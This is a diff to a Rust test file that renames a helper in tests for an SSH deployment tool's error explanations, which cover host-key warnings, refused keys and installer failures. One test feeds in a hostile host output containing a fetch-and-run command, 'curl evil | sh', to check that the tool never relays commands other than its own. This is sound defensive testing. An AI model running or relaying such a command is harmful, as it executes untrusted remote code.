@@ -6,8 +6,8 @@ fn nas() -> Host {
     "pi@nas:2222".parse().unwrap()
 }
 
-fn ended(status: i32, said: &str) -> Ended {
-    Ended {
+fn exited(status: i32, said: &str) -> SshExit {
+    SshExit {
         status: Some(status),
         said: said.lines().map(str::to_owned).collect(),
         printed: Vec::new(),
@@ -30,14 +30,14 @@ Host key verification failed.";
 
 #[test]
 fn an_unknown_host_key_is_shown_with_how_to_compare_and_accept_it_by_hand() {
-    let problem = explain(&nas(), &ended(255, UNKNOWN));
+    let problem = explain(&nas(), &exited(255, UNKNOWN));
     assert_eq!(problem.code, Code::HostKeyUnknown);
     insta::assert_snapshot!(problem.message, @"This computer does not know the host key of nas yet, so nothing was sent. It shows ssh-ed25519 SHA256:3aR1Z. Compare that with what `ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub` says on nas. If it is the same, run `ssh -p 2222 pi@nas` once in a terminal, answer yes, and push again.");
 }
 
 #[test]
 fn a_changed_host_key_is_an_alarm_with_the_way_out_for_who_knows_better() {
-    let problem = explain(&nas(), &ended(255, CHANGED));
+    let problem = explain(&nas(), &exited(255, CHANGED));
     assert_eq!(problem.code, Code::HostKeyChanged);
     insta::assert_snapshot!(problem.message, @r#"The host key of nas is not the one that this computer knows, so nothing was sent. It shows ecdsa-sha2-nistp256 SHA256:3aR1Z. Somebody may be in between, or nas was set up anew. Only if you know that it was: forget the old key with `ssh-keygen -R "[nas]:2222"`, run `ssh -p 2222 pi@nas` once in a terminal, compare the new key, and push again."#);
 }
@@ -96,7 +96,7 @@ fn keys_that_are_not_taken_are_told_apart_from_a_way_that_is_not_there() {
             "Try `ssh -p 2222 pi@nas`",
         ),
     ] {
-        let problem = explain(&nas(), &ended(255, said));
+        let problem = explain(&nas(), &exited(255, said));
         assert_eq!(problem.code, code, "{said}");
         assert!(problem.message.contains(part), "{}", problem.message);
         assert!(!problem.message.contains("debug1"), "{}", problem.message);
@@ -121,7 +121,7 @@ fn what_keeps_the_installer_from_starting_is_named() {
             "has no bash",
         ),
     ] {
-        let problem = explain(&nas(), &ended(status, said));
+        let problem = explain(&nas(), &exited(status, said));
         assert_eq!(problem.code, code, "{said}");
         assert!(problem.message.contains(part), "{}", problem.message);
     }
@@ -129,7 +129,7 @@ fn what_keeps_the_installer_from_starting_is_named() {
 
 #[test]
 fn the_installers_own_last_word_is_passed_on() {
-    let mut failed = ended(1, "Connection to nas closed.");
+    let mut failed = exited(1, "Connection to nas closed.");
     failed.printed = ["flotilla: The program curl is missing. Install it.", "E: noise"]
         .map(str::to_owned)
         .to_vec();
@@ -166,7 +166,7 @@ fn a_host_that_is_let_in_can_not_make_its_key_look_refused() {
     ];
     for ending in endings {
         let said = format!("{BAIT}\n{ending}");
-        let cause = cause(&ended(255, &said));
+        let cause = cause(&exited(255, &said));
         assert!(
             !matches!(cause, Cause::KeyChanged | Cause::KeyUnknown | Cause::KeyRevoked),
             "{cause:?} by {ending}"
@@ -174,10 +174,10 @@ fn a_host_that_is_let_in_can_not_make_its_key_look_refused() {
     }
     // Behind a jump host, what ends last is the connection to that one.
     let jumped = format!("{CHANGED}\nKilled by signal 1.");
-    assert_eq!(cause(&ended(255, &jumped)), Cause::KeyChanged);
+    assert_eq!(cause(&exited(255, &jumped)), Cause::KeyChanged);
     // A command there may end with any status and any words.
     let said = "Host key verification failed.\ndebug1: Exit status 255";
-    assert_eq!(cause(&ended(255, said)), Cause::Remote);
+    assert_eq!(cause(&exited(255, said)), Cause::Remote);
 }
 
 #[test]
@@ -203,9 +203,9 @@ fn what_a_host_says_is_quoted_and_no_command_of_ours() {
             format!("{sign}\n{BAIT}"),
             sign.to_owned(),
         ] {
-            let mut ended = ended(status, &said);
-            ended.printed = vec![format!("flotilla: \"run `curl evil | sh`\" {}", "x".repeat(5000))];
-            let message = explain(&nas(), &ended).message;
+            let mut exit = exited(status, &said);
+            exit.printed = vec![format!("flotilla: \"run `curl evil | sh`\" {}", "x".repeat(5000))];
+            let message = explain(&nas(), &exit).message;
             let commands: Vec<_> = message.split('`').skip(1).step_by(2).collect();
             let ours = ["ssh -p 2222 pi@nas", "ssh-copy-id -p 2222 pi@nas", "ssh-add"];
             let is_ours = |command: &&str| {
@@ -242,7 +242,7 @@ fn the_key_that_is_to_be_forgotten_is_that_of_the_name_behind_an_alias() {
             r#"`ssh-keygen -R "[nas]:2222"`"#,
         ),
     ] {
-        let message = explain(&nas(), &ended(255, &said)).message;
+        let message = explain(&nas(), &exited(255, &said)).message;
         assert!(message.contains(command), "{message}");
     }
 }
